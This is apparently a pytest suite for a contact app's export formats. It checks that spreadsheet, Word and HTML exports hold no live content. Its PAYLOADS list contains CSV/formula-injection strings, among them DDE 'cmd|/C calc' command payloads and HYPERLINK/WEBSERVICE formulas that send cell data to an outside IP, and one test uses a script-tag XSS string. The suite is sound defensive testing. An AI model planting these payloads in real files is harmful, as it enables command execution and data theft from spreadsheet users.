"""Formats of an export: each holds what it is given to the last sign, and nothing in it is live."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook

from app.blueprint.registry import discover
from app.core.clock import Clock
from app.core.errors import UsageError, UserError
from app.core.progress import Cancelled, Progress
from app.services.exchange.exporting import export
from app.services.exchange.formats import FORMATS
from app.services.exchange.formats.sheet import Heading, Sheet
from app.services.exchange.formats.xlsx import write
from app.services.exchange.importing import ImportOptions, plan_import, run
from app.services.library import Library
from app.services.lists import ListQuery
from app.store.change import Change

from .conftest import records, stored

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;2)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1+1", "\u00a0=1+1",
    "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", '"=1+1"', '"=1+1', "'=1+1", "''=1+1", "'", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "=DDE(\"soffice\";\"x\";\"y\")", "=HYPERLINK(\"http://198.51.100.1/?\"&A1;\"x\")",
    "=WEBSERVICE(\"http://198.51.100.1/\")", "=IMPORTXML(\"http://198.51.100.1\",\"//a\")", "=1+1;=2+2",
    "x\n=1+1", "x,=1+1", "x;=1+1", "x\t=1+1", "{=1+1}", "=-1", "-2+3+cmd|' /C calc'!A0", "=A1", "+A1", "-A1",
    "@A1", "=INDIRECT(\"A1\")", "=1", "=", "==1", "=\u0000 1", "=TRUE()",
]  # fmt: skip
FORMULA = re.compile(r"table:formula=\"[^\"]*\"")
PHONES = ["+373 22 123 456", "+40-721-234-567", "+1+1", "=1+1", "-2+3", "@SUM(1)", "+A1(2)", "0721/234.567"]


def _sheet(cells: list[Any], headings: list[Heading] | None = None) -> Sheet:
    columns = headings or [Heading(f"C{n}") for n in range(len(cells))]
    return Sheet("Test", columns, 1, lambda: [("Pop", cells)])


@pytest.fixture
def hostile(library: Library) -> Library:
    values = [
        {"surname": f"S{n}", "hobby": each, "notes": each, "phones": [{"value": PHONES[n % len(PHONES)]}]}
        for n, each in enumerate(PAYLOADS)
    ]
    changes = [Change("contacts", library.new_uid(), each) for each in values]
    library.write("import", changes, section="contacts", title="")
    return library


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_nothing_is_live_in_a_spreadsheet(suffix: str, hostile: Library, tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    library = hostile
    library.fields.add("contacts", "=1+1", "text")
    target = tmp_path / f"out{suffix}"
    export(library, ListQuery("contacts"), target)
    text = _in_office(office, target)
    assert text.count("<table:table-row") > len(PAYLOADS)
    assert FORMULA.findall(text) == []
    assert "198.51.100.1" in text
    assert re.findall(r"xlink:href=\"[^\"]*198[^\"]*\"", text) == []


@pytest.mark.slow
def test_without_the_apostrophes_they_would_be_live(hostile: Library, tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    export(hostile, ListQuery("contacts"), tmp_path / "out.csv", is_safe=False)
    assert len(FORMULA.findall(_in_office(office, tmp_path / "out.csv"))) > 10


def _in_office(office: str, path: Path) -> str:
    """The file as LibreOffice understands it, in its flat XML."""
    profile, folder = path.with_name("profile"), path.with_name("office")
    subprocess.run(
        [office, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "fods",
         "--outdir", str(folder), str(path)],
        check=True, capture_output=True, timeout=110,
    )  # fmt: skip
    return (folder / f"{path.stem}.fods").read_text(encoding="utf-8")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_what_looks_like_a_formula_comes_back_as_it_was(
    suffix: str, hostile: Library, tmp_path: Path, clock: Clock
) -> None:
    library = hostile
    export(library, ListQuery("contacts"), tmp_path / f"out{suffix}")
    other = Library.create(tmp_path / "other.cartoteca", clock=clock)
    options = ImportOptions(on_duplicate="add")
    assert run(plan_import(other, "contacts", tmp_path / f"out{suffix}", options)).refused == []
    assert [stored(each, other) for each in records(other)] == [
        stored(each, library) for each in records(library)
    ]
    other.close()


def test_texts_in_a_workbook_are_texts_and_stay_texts_when_edited(hostile: Library, tmp_path: Path) -> None:
    export(hostile, ListQuery("contacts"), tmp_path / "out.xlsx", ["surname", "hobby"])
    sheet = load_workbook(tmp_path / "out.xlsx").active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells if str(cell.value).startswith("="))


def test_a_phone_is_left_alone_unless_a_spreadsheet_would_reckon(library: Library, tmp_path: Path) -> None:
    for number, each in enumerate(PHONES):
        library.save("contacts", {"surname": f"P{number}", "phones": [{"value": each}]})
    export(library, ListQuery("contacts"), tmp_path / "out.csv", ["surname", "phones"])
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells = [row[1] for row in list(csv.reader(stream))[1:]]
    assert cells[0] == "+373 22 123 456"
    assert cells[7] == "0721/234.567"
    assert [each[0] for each in cells[1:7]] == ["'"] * 6


def test_every_hostile_text_stands_in_a_word_table_bit_for_bit(
    library: Library, shared: Path, tmp_path: Path, clock: Clock
) -> None:
    strings = json.loads((shared / "text-blns" / "blns.json").read_text(encoding="utf-8"))
    strings = [each for each in strings if not re.search(r"[\x01-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", each)]
    assert len(strings) > 480
    changes = [
        Change("contacts", library.new_uid(), {"surname": f"S{n}", "notes": each})
        for n, each in enumerate([*strings, "  two\n\nlines\t\n", "a\rb"])
    ]
    library.write("import", changes, section="contacts", title="")
    export(library, ListQuery("contacts"), tmp_path / "out.docx", ["surname", "notes"])
    rows = [[cell.text for cell in row.cells] for row in Document(str(tmp_path / "out.docx")).tables[0].rows]
    other = Library.create(tmp_path / "other.cartoteca", clock=clock)
    back = [Change("contacts", other.new_uid(), {"surname": row[0], "notes": row[1]}) for row in rows[1:]]
    other.write("import", back, section="contacts", title="")
    assert [stored(each, other) for each in records(other)] == [
        stored(each, library) for each in records(library)
    ]
    other.close()


def test_a_sign_that_a_document_cannot_hold_is_refused_by_name(library: Library, tmp_path: Path) -> None:
    library.save("contacts", {"surname": "Pop", "notes": "bell \x07"})
    with pytest.raises(UserError, match=r"“Pop”, Notes: .*U\+0007"):
        export(library, ListQuery("contacts"), tmp_path / "out.docx")
    assert list(tmp_path.glob("*out*")) == []


def test_a_sign_that_an_encoding_lacks_is_refused_by_name(library: Library, tmp_path: Path) -> None:
    library.save("contacts", {"surname": "Țăranu", "hobby": "шахматы"})
    with pytest.raises(UserError, match=r"“Țăranu”, Surname: “Ț” cannot be written in cp1251"):
        export(library, ListQuery("contacts"), tmp_path / "out.csv", ["surname", "hobby"], encoding="cp1251")
    export(library, ListQuery("contacts"), tmp_path / "out.csv", ["hobby"], encoding="cp1251", delimiter="|")
    assert "шахматы".encode("cp1251") in (tmp_path / "out.csv").read_bytes()


@pytest.mark.parametrize(
    ("options", "sentence"),
    [
        ({"encoding": "klingon"}, "klingon"),
        ({"encoding": "rot13"}, "rot13"),
        ({"delimiter": ";;"}, "one sign"),
    ],
)
def test_options_that_make_no_sense_are_told(
    options: dict[str, Any], sentence: str, library: Library, tmp_path: Path
) -> None:
    with pytest.raises(UserError, match=sentence):
        export(library, ListQuery("contacts"), tmp_path / "out.csv", **options)


def test_an_option_of_another_format_is_refused(library: Library, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="--delimiter"):
        export(library, ListQuery("contacts"), tmp_path / "out.xlsx", delimiter=";")


def test_dates_and_figures_are_real_and_what_a_sheet_cannot_hold_is_text(tmp_path: Path) -> None:
    cells = [date(1985, 3, 14), datetime(2026, 11, 23, 10, 30), date(1899, 5, 1), 7, -5, 12.5, 10**15, None]
    headings = [Heading(f"C{n}", places=2 if n == 5 else 0) for n in range(len(cells))]
    write(tmp_path / "out.xlsx", _sheet(cells, headings), {})
    row = load_workbook(tmp_path / "out.xlsx").active[2]
    assert [cell.value for cell in row[:2]] == [datetime(1985, 3, 14), cells[1]]
    assert [cell.value for cell in row[2:7]] == ["1899-05-01", 7, -5, 12.5, "1000000000000000"]
    assert [row[n].number_format for n in (3, 5)] == ["General", "#,##0.00"]


def test_a_workbook_is_set_up_to_be_read_and_printed(tmp_path: Path) -> None:
    write(tmp_path / "out.xlsx", Sheet("It's <a> [b]", [Heading("A", 30), Heading("B")], 0, list), {})
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert (sheet.title, sheet.freeze_panes, sheet.auto_filter.ref) == ("It's <a>  b", "A2", "A1:B1")
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.column_dimensions["A"].width == 30
    assert (sheet["A1"].font.bold, sheet["A1"].fill.fgColor.rgb) == (True, "FFE0F1F0")
    assert sheet.page_setup.orientation == "landscape"


def test_a_page_for_a_browser_holds_no_live_marks(library: Library, tmp_path: Path) -> None:
    library.save("contacts", {"surname": "<script>alert(1)</script>", "notes": '<img src="//h/x.png">'})
    export(library, ListQuery("contacts"), tmp_path / "out.html")
    text = (tmp_path / "out.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert not re.search(r"<(script|img)", text)


def test_files_for_readers_leave_empty_columns_out(library: Library, tmp_path: Path) -> None:
    library.save("contacts", {"surname": "Pop", "hobby": "chess\nmusic"})
    export(library, ListQuery("contacts"), tmp_path / "out.txt")
    assert (tmp_path / "out.txt").read_text(encoding="utf-8-sig").splitlines()[3:] == [
        "Pop", "---", "Hobby: chess music",
    ]  # fmt: skip
    export(library, ListQuery("contacts"), tmp_path / "out.csv")
    assert "Phone" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("suffix", [
    suffix for suffix, each in FORMATS.items()
    if suffix != ".pdf" and each.fits(discover().section("contacts"))
])  # fmt: skip
def test_an_export_can_be_cancelled_while_it_is_written(
    suffix: str, library: Library, tmp_path: Path
) -> None:
    changes = [Change("contacts", library.new_uid(), {"surname": f"S{n}"}) for n in range(1_200)]
    library.write("import", changes, section="contacts", title="")

    def step(done: int, total: int | None, _text: str) -> None:
        if done > (total or 0) // 2:
            progress.cancel()

    progress = Progress(step)
    library.save("contacts", {"surname": "last"})
    many = [each.uid for each in changes] * 3
    with pytest.raises(Cancelled):
        export(library, ListQuery("contacts"), tmp_path / f"out{suffix}", progress=progress, uids=many)
    assert list(tmp_path.glob("*out*")) == []


def test_the_parts_of_a_workbook_are_well_formed(tmp_path: Path) -> None:
    from lxml import etree

    write(tmp_path / "out.xlsx", _sheet(["a & <b>", "\x07\ufffe", "]]>"]), {})
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            etree.fromstring(archive.read(name))
